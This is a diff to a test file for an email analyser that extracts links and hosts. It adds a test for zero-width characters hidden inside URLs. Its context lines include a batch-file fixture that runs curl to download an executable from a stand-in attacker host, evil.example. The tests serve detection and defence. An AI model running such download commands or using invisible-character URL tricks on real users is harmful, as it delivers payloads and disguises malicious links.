@@ -41,6 +41,17 @@ test('characters without a shape do not cut a name short', async () => {
   expect(links.map(({ href, host }) => [href, host])).toEqual([['https://ev\u200bil.exam\u00adple/a', 'evil.example']]);
 });
 
+test('such a character between a name and its path', async () => {
+  const mail = bytesOf(
+    'From: a@b.example\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nhttps://evil.example\u200b/a です。https://c.example\u200bと\r\n',
+  );
+  const { links } = await analyzeMail(mail);
+  expect(links.map(({ href, host }) => [href, host])).toEqual([
+    ['https://evil.example\u200b/a', 'evil.example'],
+    ['https://c.example', 'c.example'],
+  ]);
+});
+
 test('a batch file behind the mark of UTF-16 is read as what the command line runs', async () => {
   const script = '&cls\r\n@echo off\r\ncurl https://evil.example/a.exe -o a.exe\r\n';
   expect(await hostsOf(withAttachment('a.bat', join(Uint8Array.of(0xff, 0xfe), script)))).toEqual(['evil.example']);
